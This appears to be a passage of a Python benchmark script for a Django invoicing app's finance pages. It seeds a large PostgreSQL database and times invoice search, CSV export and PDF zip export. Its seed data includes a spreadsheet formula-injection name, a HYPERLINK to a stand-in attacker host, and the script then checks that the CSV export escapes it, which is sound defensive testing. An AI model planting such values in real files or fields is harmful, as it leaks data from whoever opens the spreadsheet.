"""The finance area at size, on PostgreSQL (`make bench`); never part of the test suite. See bench/README.md.

1. Creates a fresh database (default pictor_bench_finance), migrates it, and seeds --accounts
   accounts (default 20,000), each with one owner, and --invoices invoices (default 100,000: 5 an
   account) over the last two years with their lines (purchases with volume discounts and credit
   applied, renewals, top-ups, plan changes, credit notes naming the invoice they correct), numbered
   gap-free per year, written with COPY (about a minute). Names repeat their first two words in ten
   accounts, so a name search finds ten accounts; the first --zip ÷ 5 accounts are named "Archive …"
   (the zip's set); one account in 997 has a name a spreadsheet would run as a formula.
2. SQL queries of the search page for each filter (number, name, dates, name and dates; a first and a
   deep page), in-process. Goal: at most 6 for every one, the bound tests/finance asserts on 120 invoices.
3. One gunicorn run (--workers, sync, DEBUG off) of bench/baseline.py's application (the project's own,
   plus the baseline page), logged in as a finance user:
   - the search page (number, name, date and combined filters, in turn) against the authenticated
     baseline page, --requests each from --clients threads, taking turns in --rounds rounds:
     p50/p99 latency; goal: search p50 ≤ 3× the baseline's;
   - the CSV of every invoice (one a row), downloaded --csv-runs times, against `COPY (SELECT the same
     columns of the same rows in the same order) TO STDOUT (FORMAT csv)` through psycopg, as many
     times, in turn: rows/s; goal ≥ 0.5× COPY's. The download is checked: every invoice once, no
     text cell a spreadsheet would run;
   - the zip of the "Archive" set (--zip PDFs): the page starts the job, one `manage.py db_worker
     --batch` renders and caches every PDF, then the zip downloads from the cache: seconds per PDF
     (request to last byte) against a bare one-page WeasyPrint render (bench/pdf.py's, in this
     process, before and after); goal ≤ 1.5×. The zip is checked: every PDF once, each a PDF.
   Memory: the gunicorn workers' peak RSS (VmHWM) after everything, and their RSS before and after
   the CSVs and the zip; the task worker's peak RSS, and its RSS when 10% and 100% were rendered.
   Goal: every peak < 150 MB, and flat (the worker's RSS at 100% within 20 MB of its RSS at 10%).
4. Writes bench/results/finance.json ({"figures": [...], "loadavg", details}); gunicorn's and the task
   worker's logs beside it. The servers and the database go at the end, also on errors, Ctrl-C and
   SIGTERM.
"""

import argparse
import csv
import datetime
import http.client
import io
import json
import os
import random
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlencode

sys.path.insert(0, str(Path(__file__).resolve().parent))
import pdf as pdf_bench  # noqa: E402  (bench/pdf.py: the bare renders and the figure shape)
import run as base  # noqa: E402  (bench/run.py: database helpers, free ports)

BASE = base.BASE
# The repository first: this file's own name would otherwise stand for the finance app.
sys.path.insert(0, str(BASE))
RESULTS = base.RESULTS
HOST = base.HOST
PASSWORD = "bench-finance-not-secret"
FINANCE_EMAIL = "finance-bench@example.com"
LATENCY_GOAL = 3.0  # search p50 ÷ baseline p50
COPY_GOAL = 0.5  # CSV rows/s ÷ COPY rows/s
PDF_GOAL = 1.5  # seconds per PDF in the zip ÷ one bare render
RSS_GOAL_MB = 150
SEARCH_QUERIES = 6  # tests/finance/test_invoice_search.py asserts the same bound on a small book
FLAT_MB = 20  # "flat": the task worker's RSS at 100% within this of its RSS at 10%
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("number", "kind", "status", "account", "billing_email", "description", "refers_to")
SEARCH_MARKER = b"data-invoice-table"

FIRST = ["Harbor", "Lumen", "Cedar", "Nimbus", "Copper", "Juniper", "Saffron", "Atlas", "Willow", "Quartz",
         "Maple", "Orchid", "Beacon", "Falcon", "Meadow", "Summit", "Coral", "Aurora", "Indigo", "Pioneer",
         "Granite", "Velvet", "Zephyr", "Ember", "Tidal", "Crescent", "Solstice", "Paper", "Bright", "Silver",
         "Golden", "Crimson", "Azure", "Olive", "Sable", "Ivory", "Onyx", "Prairie", "Lantern", "Compass"]
SECOND = ["Lights", "Events", "Studios", "Booths", "Moments", "Parties", "Weddings", "Frames", "Snaps", "Pixels",
          "Memories", "Gatherings", "Celebrations", "Media", "Productions", "Experiences", "Galas", "Socials",
          "Portraits", "Lenses", "Stories", "Venues", "Festivals", "Occasions", "Selfies", "Prints", "Smiles",
          "Flash", "Mirrors", "Albums", "Works", "Collective", "Company", "Group", "House", "Labs", "Partners",
          "Rentals", "Hire", "Booking", "Club", "Factory", "Garden", "Hall", "Loft", "Market", "Point", "Square",
          "Street", "Yard"]
SUFFIX = ["Ltd", "GmbH", "Inc.", "LLC", "SAS", "BV", "AB", "Oy", "SRL", "Pty"]
PRICES = {"basic": (Decimal("49.00"), Decimal("490.00")), "pro": (Decimal("99.00"), Decimal("990.00")),
          "premium": (Decimal("149.00"), Decimal("1490.00"))}
CENT = Decimal("0.01")


def parse_args():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--pg", default=os.environ.get("BENCH_PG_URL", "postgres://postgres@127.0.0.1:5432"),
                        help="PostgreSQL server URL without a database name (env BENCH_PG_URL)")
    parser.add_argument("--db", default="pictor_bench_finance",
                        help="database to create and drop (must contain 'bench')")
    parser.add_argument("--accounts", type=int, default=20_000, help="accounts, one owner each")
    parser.add_argument("--invoices", type=int, default=100_000, help="invoices, spread evenly over the accounts")
    parser.add_argument("--zip", type=int, default=1000, help="PDFs in the zip (a multiple of invoices per account)")
    parser.add_argument("--requests", type=int, default=400, help="measured requests per page (search, baseline)")
    parser.add_argument("--warmup", type=int, default=40, help="unmeasured requests per page first")
    parser.add_argument("--rounds", type=int, default=4, help="the pages take turns in this many rounds")
    parser.add_argument("--clients", type=int, default=2, help="concurrent client threads")
    parser.add_argument("--workers", type=int, default=2, help="gunicorn workers (sync)")
    parser.add_argument("--csv-runs", type=int, default=3, help="CSV downloads (and as many COPYs), in turn")
    parser.add_argument("--bare-renders", type=int, default=30, help="bare PDF renders before and after the zip")
    parser.add_argument("--keep-db", action="store_true", help="do not drop the database at the end")
    parser.add_argument("--seed-only", action="store_true",
                        help="seed and count the queries, then stop (with --keep-db: a database to look into)")
    parser.add_argument("--search-only", action="store_true",
                        help="seed, count the queries and load the search against the baseline, print, then stop "
                             "(no CSV, no zip, nothing written)")
    args = parser.parse_args()
    if "bench" not in args.db:
        parser.error("--db must contain 'bench': the database is dropped at the end")
    per_account = args.invoices // max(args.accounts, 1)
    if args.accounts < 100 or per_account < 2 or args.invoices % args.accounts:
        parser.error("--accounts >= 100, and --invoices a multiple of --accounts with 2 or more an account")
    if args.zip % per_account or not 0 < args.zip // per_account <= args.accounts // 10:
        parser.error(f"--zip: a multiple of {per_account} (invoices an account), at most a tenth of the invoices")
    if not 1 <= args.clients <= 32 or not 1 <= args.rounds <= args.requests or args.csv_runs < 1:
        parser.error("--clients 1-32, --rounds 1..requests, --csv-runs >= 1")
    return args


# --- seeding -------------------------------------------------------------------------------------------

class Table:
    """A model's table as COPY writes it: every concrete column, the value given or the field's default."""

    def __init__(self, model):
        self.model = model
        self.fields = list(model._meta.concrete_fields)
        self.columns = ", ".join(f'"{field.column}"' for field in self.fields)
        # Django's own default for a column not given ("" for a blank text field, None for a nullable one).
        self.defaults = {field.attname: field.get_default() for field in self.fields}
        self.rows = []

    def add(self, **values) -> None:
        row = {**self.defaults, **values}
        self.rows.append(tuple(row[field.attname] for field in self.fields))

    def write(self, cur) -> int:
        with cur.copy(f"COPY {self.model._meta.db_table} ({self.columns}) FROM STDIN") as copy:
            for row in self.rows:
                copy.write_row(row)
        count, self.rows = len(self.rows), []
        return count


def account_name(index: int, archive: int) -> str:
    name = f"{FIRST[index % len(FIRST)]} {SECOND[(index // len(FIRST)) % len(SECOND)]} " \
           f"{SUFFIX[(index // (len(FIRST) * len(SECOND))) % len(SUFFIX)]}"
    if index < archive:
        name = f"Archive {name}"
    if index % 997 == 996:  # a name a spreadsheet would run, as an owner could type it
        name = f'=HYPERLINK("http://evil.example/?a={index}","{name}")'
    return name


def invoice_documents(rng: random.Random, per_account: int, start: datetime.date, days: int) -> list[dict]:
    """One account's invoices, oldest first: (kind, issued_on, lines, status, corrects) where each line is
    (kind, description, quantity, unit price, amount) and every total is the sum of its lines."""
    documents = []
    for issued_on in sorted(start + datetime.timedelta(days=rng.randrange(days)) for _ in range(per_account)):
        tier = rng.choice(list(PRICES))
        roll = rng.random()
        earlier = [d for d in documents if d["kind"] != "credit_note"]
        if roll < 0.05 and earlier:
            corrects = rng.choice(earlier)
            amount = -(sum(line[4] for line in corrects["lines"]) * Decimal(rng.randint(5, 60)) / 100).quantize(CENT)
            if amount == 0:
                amount = Decimal("-1.00")
            lines = [("credit", f"Credit for cancelled license: unused days of {tier.title()}", 1, amount, amount)]
            documents.append({"kind": "credit_note", "issued_on": issued_on, "lines": lines, "status": "credited",
                              "corrects": corrects, "description": "Credit note"})
            continue
        if roll < 0.20:
            package = rng.choice([("Starter", 100, "10.00"), ("Standard", 500, "45.00"), ("Large", 1000, "80.00")])
            price = Decimal(package[2])
            lines = [("item", f"{package[0]}: {package[1]} tokens", 1, price, price)]
            kind, description = "top_up", f"Token top-up: {package[0]}"
        else:
            period = rng.choice(["monthly", "monthly", "annual"])
            quantity = rng.choice([1, 1, 2, 3, 5, 8, 12, 20])
            unit = PRICES[tier][period == "annual"]
            subtotal = unit * quantity
            lines = [("list_subtotal", f"{quantity} × {tier.title()} license, {period}", quantity, unit, subtotal)]
            if quantity >= 5:
                rate = Decimal("0.15") if quantity >= 10 else Decimal("0.10")
                discount = -(subtotal * rate).quantize(CENT)
                lines.append(("volume_discount", f"Volume discount {int(rate * 100)}%", 1, discount, discount))
            if rng.random() < 0.15:
                credit = -min(Decimal(rng.randint(1, 40)), subtotal / 2).quantize(CENT)
                lines.append(("credit_applied", "Credit balance applied", 1, credit, credit))
            kind = "renewal" if roll < 0.70 else "purchase" if roll < 0.95 else "change"
            description = {"renewal": f"Renewal of {quantity} {tier.title()} licenses, {period}",
                           "purchase": f"License purchase: {quantity} {tier.title()}, {period}",
                           "change": f"Plan change to {tier.title()}"}[kind]
        status = rng.choices(["paid", "open", "failed", "void"], weights=[90, 6, 3, 1])[0]
        documents.append({"kind": kind, "issued_on": issued_on, "lines": lines, "status": status, "corrects": None,
                          "description": description})
    return documents


def seed(args, db_url: str) -> dict:
    """The accounts, owners, invoices and lines, COPY-written; the finance user through the ORM."""
    import psycopg
    from django.conf import settings
    from django.contrib.auth.models import Group
    from django.core.management import call_command
    from django.db import connections

    from accounts.models import Account, User
    from invoices.models import Invoice, InvoiceLine, InvoiceSequence

    started = time.perf_counter()
    call_command("migrate", interactive=False, verbosity=0)
    call_command("createcachetable", verbosity=0)
    finance = User.objects.create_user(FINANCE_EMAIL, PASSWORD, is_staff=True)
    finance.groups.add(Group.objects.get(name="Finance"))
    password = User.objects.get(pk=finance.pk).password  # one hash for every owner: nobody logs in as them
    connections.close_all()

    per_account = args.invoices // args.accounts
    archive = args.zip // per_account
    rng = random.Random(20260101)
    today = datetime.date.today()
    start, days = today - datetime.timedelta(days=729), 730
    seller = settings.SELLER
    now = datetime.datetime.now(datetime.UTC)
    accounts, users = Table(Account), Table(User)
    documents = []  # (account id, name, address, document)
    for index in range(args.accounts):
        account_id = index + 1
        name = account_name(index, archive)
        slug = f"{FIRST[index % len(FIRST)]}-{SECOND[(index // len(FIRST)) % len(SECOND)]}".lower()
        accounts.add(id=account_id, name=name, address_line1=f"{index % 400 + 1} Main Street", city="Springfield",
                     postal_code=f"{10000 + index % 90000}", country="United States",
                     billing_email=f"accounts{index:05d}@{slug}.example", created_at=now)
        users.add(id=account_id + 1, password=password, email=f"owner{index:05d}@{slug}.example",
                  account_id=account_id, email_verified_at=now, date_joined=now, is_active=True)
        address = f"{index % 400 + 1} Main Street\n{10000 + index % 90000} Springfield\nUnited States"
        for document in invoice_documents(rng, per_account, start, days):
            documents.append((account_id, name, address, document))
    # Gap-free numbers per year in issue order; ids in the same order.
    documents.sort(key=lambda d: (d[3]["issued_on"], d[0]))
    invoices, lines = Table(Invoice), Table(InvoiceLine)
    last_number: dict[int, int] = {}
    line_id = 0
    for invoice_id, (account_id, name, address, document) in enumerate(documents, start=1):
        document["id"] = invoice_id
        year = document["issued_on"].year
        last_number[year] = sequence = last_number.get(year, 0) + 1
        amounts = [line[4] for line in document["lines"]]
        total = sum(amounts, Decimal("0.00"))
        credit = -sum((line[4] for line in document["lines"] if line[0] == "credit_applied"), Decimal("0.00"))
        discount = -sum((line[4] for line in document["lines"] if line[0] == "volume_discount"), Decimal("0.00"))
        renewal = document["kind"] == "renewal"
        invoices.add(
            id=invoice_id, account_id=account_id, number=f"PB-{year}-{sequence:06d}", series="", year=year,
            sequence=sequence, kind=document["kind"], issued_on=document["issued_on"],
            service_from=document["issued_on"] if renewal else None,
            service_to=document["issued_on"] + datetime.timedelta(days=30) if renewal else None,
            description=document["description"], status=document["status"], subtotal=amounts[0],
            discount_total=discount, credit_applied=credit, total=total, currency="USD",
            refers_to_id=document["corrects"]["id"] if document["corrects"] else None,
            buyer_name=name, buyer_address=address, buyer_vat_id="", seller_name=seller["name"],
            seller_address=seller["address"], seller_email=seller["email"], seller_vat_id=seller["vat_id"],
            created_at=datetime.datetime.combine(document["issued_on"], datetime.time(10), tzinfo=datetime.UTC))
        for position, (kind, description, quantity, unit, amount) in enumerate(document["lines"], start=1):
            line_id += 1
            lines.add(id=line_id, invoice_id=invoice_id, position=position, kind=kind, description=description,
                      quantity=quantity, unit_price=unit, amount=amount)
    with psycopg.connect(db_url) as conn, conn.cursor() as cur:
        written = {table.model._meta.db_table: table.write(cur) for table in (accounts, users, invoices, lines)}
        for year, last in last_number.items():
            cur.execute("INSERT INTO invoices_invoicesequence (series, year, last_number) VALUES ('', %s, %s)",
                        [year, last])
        for model in (Account, User, Invoice, InvoiceLine, InvoiceSequence):
            table = model._meta.db_table
            cur.execute(f"SELECT setval(pg_get_serial_sequence('{table}', 'id'), "  # noqa: S608
                        f"(SELECT coalesce(max(id), 1) FROM {table}))")
        conn.commit()
        conn.autocommit = True
        conn.execute("VACUUM ANALYZE")
    return {"seconds": round(time.perf_counter() - started, 1), "rows": written,
            "numbers": {str(year): last for year, last in sorted(last_number.items())},
            "archive_accounts": archive, "per_account": per_account, "first_day": start.isoformat()}


# --- the finance user's session, the search URLs, their query counts ---------------------------------------

def finance_session() -> str:
    """A session cookie of the finance user, as logging in makes one."""
    from django.conf import settings
    from django.test import Client

    from accounts.models import User

    client = Client()
    client.force_login(User.objects.get(email=FINANCE_EMAIL))
    return client.cookies[settings.SESSION_COOKIE_NAME].value


def search_paths() -> dict[str, str]:
    """The search page with a number, a name, a date range, a name and dates; a deep page too."""
    from invoices.models import Invoice

    middle = Invoice.objects.order_by("pk")[Invoice.objects.count() // 2]
    month_end = middle.issued_on
    month_start = month_end - datetime.timedelta(days=30)
    name = " ".join(middle.buyer_name.removeprefix("Archive ").split()[:2])  # ten accounts share it
    paths = {
        "number": {"q": middle.number},
        "number prefix": {"q": middle.number[:-2]},  # a hundred numbers
        "name": {"q": name},
        "dates": {"issued_from": month_start.isoformat(), "issued_to": month_end.isoformat()},
        "name and dates": {"q": name, "issued_from": (month_end - datetime.timedelta(days=365)).isoformat(),
                           "issued_to": month_end.isoformat()},
        "dates, page 20": {"issued_from": month_start.isoformat(), "issued_to": month_end.isoformat(), "page": "20"},
    }
    return {label: "/finance/invoices/?" + urlencode(query) for label, query in paths.items()}


def count_queries(paths: dict[str, str], baseline_path: str) -> dict:
    """SQL queries of each page (after one warm-up request each), in-process, as the finance user."""
    import baseline
    from django.db import connection
    from django.test import Client, override_settings
    from django.test.utils import CaptureQueriesContext

    from accounts.models import User

    client = Client()
    client.force_login(User.objects.get(email=FINANCE_EMAIL))
    counted = {}
    with override_settings(ROOT_URLCONF=baseline.URLCONF):
        for label, path in {"baseline": baseline_path, **paths}.items():
            client.get(path)
            with CaptureQueriesContext(connection) as captured:
                response = client.get(path)
            if response.status_code != 200:
                raise RuntimeError(f"{label}: HTTP {response.status_code} in-process")
            counted[label] = {"count": len(captured.captured_queries),
                              "ms": round(sum(float(q["time"]) for q in captured.captured_queries) * 1000, 2),
                              "sql": [q["sql"] for q in captured.captured_queries]}
    return counted


# --- servers and what they use -----------------------------------------------------------------------------

class Server:
    """gunicorn serving bench/baseline.py's application, in its own process group."""

    def __init__(self, *, workers: int, env: dict, log_path: Path):
        self.port = base.free_port()
        self.log_path = log_path
        binary = BASE / ".venv" / "bin" / "gunicorn"
        if not binary.exists():
            binary = Path(sys.executable).with_name("gunicorn")
        self.log = open(log_path, "wb")  # noqa: SIM115 - closed in stop()
        # The zip and the CSVs of 100,000 rows stream for seconds: gunicorn's 30 s worker timeout is for hung
        # workers, not for these.
        self.proc = subprocess.Popen(
            [str(binary), "bench.baseline:application", "-w", str(workers), "-b", f"{HOST}:{self.port}",
             "--timeout", "300", "--log-level", "warning"],
            cwd=BASE, env=env, stdout=self.log, stderr=subprocess.STDOUT, start_new_session=True)

    wait_ready = base.Gunicorn.wait_ready
    log_tail = base.Gunicorn.log_tail
    stop = base.Gunicorn.stop

    def workers(self) -> list[int]:
        try:
            return [int(pid) for pid in Path(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children")
                    .read_text().split()]
        except OSError:
            return []

    def memory(self) -> dict[int, dict]:
        return {pid: memory(pid) for pid in self.workers()}


def memory(pid: int) -> dict:
    """A process's resident set now and at its peak, MB (from /proc)."""
    found = {}
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            key, _, value = line.partition(":")
            if key in ("VmRSS", "VmHWM"):
                found[key] = round(int(value.split()[0]) / 1024, 1)
    except OSError:
        pass
    return {"rss_mb": found.get("VmRSS"), "peak_mb": found.get("VmHWM")}


class Sampler(threading.Thread):
    """Samples RSS of some processes every `every` seconds while it runs (a memory curve, not one point)."""

    def __init__(self, pids, every: float = 0.2, extra=None):
        super().__init__(daemon=True)
        self.pids, self.every, self.extra = pids, every, extra
        self.samples: list[dict] = []
        self.done = threading.Event()

    def run(self) -> None:
        started = time.perf_counter()
        while not self.done.is_set():
            sample = {"t": round(time.perf_counter() - started, 2),
                      "rss_mb": {str(pid): memory(pid)["rss_mb"] for pid in self.pids()}}
            if self.extra:
                sample.update(self.extra())
            self.samples.append(sample)
            self.done.wait(self.every)

    def stop(self) -> list[dict]:
        self.done.set()
        self.join()
        return self.samples


# --- load --------------------------------------------------------------------------------------------------

def load(port: int, paths: list[str], headers: dict, total: int, clients: int, marker: bytes) -> list[float]:
    """`total` GETs from `clients` keep-alive threads, paths in turn; every answer a 200 carrying `marker`."""
    latencies: list[float] = []
    failures: list[str] = []
    lock = threading.Lock()
    quotas = [total // clients + (1 if i < total % clients else 0) for i in range(clients)]
    barrier = threading.Barrier(clients)

    def worker(index: int) -> None:
        conn = http.client.HTTPConnection(HOST, port, timeout=60)
        mine = []
        try:
            barrier.wait()
            for n in range(quotas[index]):
                path = paths[(index + n * clients) % len(paths)]
                t0 = time.perf_counter()
                conn.request("GET", path, headers=headers)
                response = conn.getresponse()
                content = response.read()
                mine.append(time.perf_counter() - t0)
                if response.status != 200 or marker not in content:
                    failures.append(f"{path}: HTTP {response.status} {content[:120]!r}")
        except Exception as error:  # noqa: BLE001 - reported below
            failures.append(repr(error))
            barrier.abort()
        finally:
            conn.close()
            with lock:
                latencies.extend(mine)

    threads = [threading.Thread(target=worker, args=(i,), daemon=True) for i in range(clients)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    if failures:
        raise RuntimeError(f"{len(failures)} failed requests; first: {failures[0]}")
    return latencies


def latency_summary(latencies: list[float]) -> dict:
    ordered = sorted(latencies)
    return {"requests": len(ordered), "p50_ms": round(base.percentile(ordered, 50) * 1000, 2),
            "p99_ms": round(base.percentile(ordered, 99) * 1000, 2),
            "mean_ms": round(statistics.fmean(ordered) * 1000, 2)}


def download(port: int, path: str, headers: dict, sink) -> dict:
    """GET `path`, streaming the body into sink(bytes) 64 KiB at a time: seconds, bytes, status, headers."""
    conn = http.client.HTTPConnection(HOST, port, timeout=600)
    t0 = time.perf_counter()
    conn.request("GET", path, headers=headers)
    response = conn.getresponse()
    size = 0
    while chunk := response.read(65536):
        size += len(chunk)
        sink(chunk)
    seconds = time.perf_counter() - t0
    conn.close()
    return {"seconds": seconds, "bytes": size, "status": response.status, "headers": dict(response.getheaders())}


# --- the CSV against COPY ----------------------------------------------------------------------------------

COPY_SQL = """COPY (
  SELECT i.number, i.issued_on, i.kind, i.status, i.account_id, i.buyer_name, a.billing_email, i.description,
         i.subtotal, i.discount_total, i.credit_applied, i.total, i.currency, r.number
  FROM invoices_invoice i JOIN accounts_account a ON a.id = i.account_id
  LEFT JOIN invoices_invoice r ON r.id = i.refers_to_id
  WHERE NOT a.is_test_account AND i.number IS NOT NULL
  ORDER BY i.issued_on DESC, i.year DESC, i.sequence DESC, i.id DESC
) TO STDOUT (FORMAT csv, HEADER)"""


def copy_rows(db_url: str) -> dict:
    """The same columns of the same rows in the same order, as PostgreSQL's own COPY writes them."""
    import psycopg

    with psycopg.connect(db_url, autocommit=True) as conn, conn.cursor() as cur:
        t0 = time.perf_counter()
        size = 0
        with cur.copy(COPY_SQL) as copy:
            for block in copy:  # as little as a client can do with the rows: count their bytes
                size += len(block)
        return {"seconds": time.perf_counter() - t0, "bytes": size}


def csv_check(body: bytes, expected_rows: int) -> dict:
    """Every invoice once, and no text cell a spreadsheet would run as a formula."""
    table = list(csv.reader(io.StringIO(body.decode())))
    header, rows = table[0], table[1:]
    text = [header.index(name) for name in TEXT_COLUMNS]
    unsafe = [row for row in rows for i in text if row[i].startswith(FORMULA_STARTS)]
    numbers = {row[0] for row in rows}
    if len(rows) != expected_rows or len(numbers) != expected_rows or unsafe:
        raise RuntimeError(f"CSV: {len(rows)} rows, {len(numbers)} numbers (expected {expected_rows}); "
                           f"{len(unsafe)} unsafe cells, first {unsafe[:1]}")
    hostile = sum(1 for row in rows if row[header.index("account")].startswith("'=HYPERLINK"))
    return {"rows": len(rows), "hostile_names_made_text": hostile}


# --- the zip -----------------------------------------------------------------------------------------------

def zip_run(server: Server, headers: dict, env: dict, count: int) -> dict:
    """The Archive set's zip: the page starts the job, a task worker renders it, the zip downloads."""
    from django.db import connections

    from finance.models import ZipJob

    path = "/finance/invoices/export.zip?" + urlencode({"q": "Archive", "sort": "number"})
    t0 = time.perf_counter()
    conn = http.client.HTTPConnection(HOST, server.port, timeout=60)
    conn.request("GET", path, headers=headers)
    answer = conn.getresponse()
    answer.read()
    conn.close()
    if answer.status != 302:
        raise RuntimeError(f"zip: expected a redirect to the job's page, got HTTP {answer.status}")
    job = ZipJob.objects.order_by("-pk").first()
    if job.total != count:
        raise RuntimeError(f"zip: the job has {job.total} PDFs, expected {count}")
    log = open(RESULTS / "finance-worker.log", "wb")  # noqa: SIM115 - closed below
    worker = subprocess.Popen([sys.executable, "manage.py", "db_worker", "--batch", "--no-reload",
                               "--no-startup-delay", "--interval", "0.1"], cwd=BASE, env=env, stdout=log,
                              stderr=subprocess.STDOUT, start_new_session=True)

    def progress() -> dict:
        done = ZipJob.objects.filter(pk=job.pk).values_list("done", flat=True).first()
        connections.close_all()  # the sampler's thread: its own connection, closed each time
        return {"done": done}

    sampler = Sampler(lambda: [worker.pid], every=0.5, extra=progress)
    sampler.start()
    try:
        worker.wait(timeout=3600)
    finally:
        if worker.poll() is None:
            os.killpg(worker.pid, signal.SIGTERM)
            worker.wait(15)
        samples = sampler.stop()
        log.close()
    rendered = time.perf_counter() - t0
    job.refresh_from_db()
    if not job.ready:
        raise RuntimeError(f"zip: the job did not finish: done {job.done} of {job.total}, error {job.error!r}")
    with tempfile.TemporaryFile() as body:
        before = server.memory()
        got = download(server.port, f"/finance/exports/zips/{job.pk}/download/", headers, body.write)
        after = server.memory()
        if got["status"] != 200:
            raise RuntimeError(f"zip download: HTTP {got['status']}")
        body.seek(0)
        with zipfile.ZipFile(body) as archive:
            names = archive.namelist()
            if len(set(names)) != count or not all(archive.read(n).startswith(b"%PDF") for n in names[:: count // 10]):
                raise RuntimeError(f"zip: {len(names)} entries, {len(set(names))} distinct; expected {count} PDFs")
            bad = archive.testzip()
            if bad:
                raise RuntimeError(f"zip: {bad} is damaged")
    total = time.perf_counter() - t0
    curve = [s for s in samples if s.get("done") is not None and s["rss_mb"].get(str(worker.pid))]
    at = {}
    for share in (0.1, 0.5, 1.0):
        reached = [s for s in curve if s["done"] >= share * count * 0.99]
        if reached:
            at[f"{int(share * 100)}%"] = reached[0]["rss_mb"][str(worker.pid)]
    worker_peak = max((s["rss_mb"][str(worker.pid)] for s in curve), default=None)
    return {"pdfs": count, "seconds_total": round(total, 2), "seconds_render": round(rendered, 2),
            "seconds_download": round(got["seconds"], 2), "bytes": got["bytes"],
            "seconds_per_pdf": total / count, "worker_exit": worker.returncode,
            "task_worker_rss_mb": at, "task_worker_peak_mb": worker_peak,
            "gunicorn_before": before, "gunicorn_after": after,
            "task_worker_curve": samples[::max(1, len(samples) // 60)]}


def bare_render_seconds(renders: int) -> dict:
    """Median wall seconds of bench/pdf.py's bare renders (after two warm-up renders each)."""
    for _ in range(2):
        pdf_bench.bare_pdf()
        pdf_bench.bare_floor_pdf()
    bare, floor = [], []
    for _ in range(renders):
        bare.append(pdf_bench.timed(pdf_bench.bare_pdf)[0])
        floor.append(pdf_bench.timed(pdf_bench.bare_floor_pdf)[0])
    return {"bare": statistics.median(bare), "bare_floor": statistics.median(floor)}


# --- main --------------------------------------------------------------------------------------------------

def main() -> int:
    args = parse_args()
    db_url = f"{args.pg.rstrip('/')}/{args.db}"
    cache = tempfile.mkdtemp(prefix="pictor-bench-finance-pdfs-")
    # DEBUG off as in production, but plain HTTP on the loopback: no redirect to HTTPS, cookies sent over HTTP.
    os.environ.update(DATABASE_URL=db_url, DEBUG="0", LOG_LEVEL=os.environ.get("BENCH_LOG_LEVEL", "WARNING"),
                      DJANGO_SETTINGS_MODULE="pictor_billing.settings", FINANCE_PDF_CACHE=cache,
                      SECURE_SSL_REDIRECT="false", SECURE_COOKIES="false", SECURE_HSTS_SECONDS="0")
    RESULTS.mkdir(parents=True, exist_ok=True)
    for sig in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, lambda signum, frame: sys.exit(128 + signum))
    server = None
    created = False
    before = pdf_bench.loadavg()
    try:
        print(f"creating database {args.db} ...", flush=True)
        base.database_create(args.pg, args.db)
        created = True
        base.django_setup()
        import baseline
        from django.conf import settings
        from django.db import connections

        print(f"seeding {args.accounts:,} accounts and {args.invoices:,} invoices with COPY ...", flush=True)
        seeded = seed(args, db_url)
        print(f"  seeded in {seeded['seconds']} s: {seeded['rows']}", flush=True)
        paths = search_paths()
        queries = count_queries(paths, baseline.BASELINE_PATH)
        if args.seed_only:
            print(json.dumps({label: {"count": q["count"], "ms": q["ms"]} for label, q in queries.items()}))
            return 0
        cookie = finance_session()
        connections.close_all()

        env = dict(os.environ)  # FINANCE_PDF_CACHE among them: a cache of this run's own, empty at the start
        server = Server(workers=args.workers, env=env, log_path=RESULTS / "finance-gunicorn.log")
        server.wait_ready()
        headers = {"Cookie": f"{settings.SESSION_COOKIE_NAME}={cookie}"}
        print(f"gunicorn on {HOST}:{server.port}, {args.workers} workers: search vs baseline, "
              f"{args.requests} requests each from {args.clients} clients ...", flush=True)
        pages = {"baseline": ([baseline.BASELINE_PATH], baseline.MARKER), "search": (list(paths.values()),
                                                                                     SEARCH_MARKER)}
        for page_paths, marker in pages.values():
            load(server.port, page_paths, headers, args.warmup, args.clients, marker)
        per_round = [args.requests // args.rounds + (1 if i < args.requests % args.rounds else 0)
                     for i in range(args.rounds)]
        latencies = {name: [] for name in pages}
        for count in per_round:
            for name, (page_paths, marker) in pages.items():
                latencies[name] += load(server.port, page_paths, headers, count, args.clients, marker)
        http_results = {name: latency_summary(got) for name, got in latencies.items()}
        memory_after_search = server.memory()
        if args.search_only:
            search_p50, baseline_p50 = http_results["search"]["p50_ms"], http_results["baseline"]["p50_ms"]
            print(json.dumps({"http": http_results, "queries": {label: q["count"] for label, q in queries.items()}}))
            print(f"search p50 {search_p50} ms = {search_p50 / baseline_p50:.2f}× baseline p50 {baseline_p50} ms "
                  f"(goal ≤ {LATENCY_GOAL}×); load average before {before}, after {pdf_bench.loadavg()}")
            return 0

        print(f"CSV of all {args.invoices:,} invoices vs COPY, {args.csv_runs} times each ...", flush=True)
        csv_runs, copy_runs = [], []
        checked = None
        for run_index in range(args.csv_runs):
            copy_runs.append(copy_rows(db_url))
            body = io.BytesIO() if run_index == 0 else None
            sampler = Sampler(server.workers, every=0.1)
            sampler.start()
            got = download(server.port, "/finance/invoices/export.csv?rows=invoices", headers,
                           body.write if body else (lambda chunk: None))
            curve = sampler.stop()
            if got["status"] != 200:
                raise RuntimeError(f"CSV: HTTP {got['status']}")
            if body is not None:
                checked = csv_check(body.getvalue(), args.invoices)
                del body
            got["max_rss_mb"] = max((v or 0) for s in curve for v in s["rss_mb"].values())
            got.pop("headers")
            csv_runs.append(got)
        memory_after_csv = server.memory()
        rows = checked["rows"]
        csv_seconds = statistics.median(r["seconds"] for r in csv_runs)
        copy_seconds = statistics.median(r["seconds"] for r in copy_runs)

        print(f"zip of {args.zip} PDFs (a task worker renders them, then the zip streams) ...", flush=True)
        bare_before = bare_render_seconds(args.bare_renders)
        zipped = zip_run(server, headers, env, args.zip)
        bare_after = bare_render_seconds(args.bare_renders)
        memory_end = server.memory()
        server.stop()
        if server.log_tail().strip():
            print(f"gunicorn log ({server.log_path}):\n{server.log_tail()}", file=sys.stderr)
        server = None

        bare = statistics.median([bare_before["bare"], bare_after["bare"]])
        floor = statistics.median([bare_before["bare_floor"], bare_after["bare_floor"]])
        counts = {label: q["count"] for label, q in queries.items() if label != "baseline"}
        gunicorn_peak = max((m["peak_mb"] or 0) for m in memory_end.values())
        task_rss = zipped["task_worker_rss_mb"]
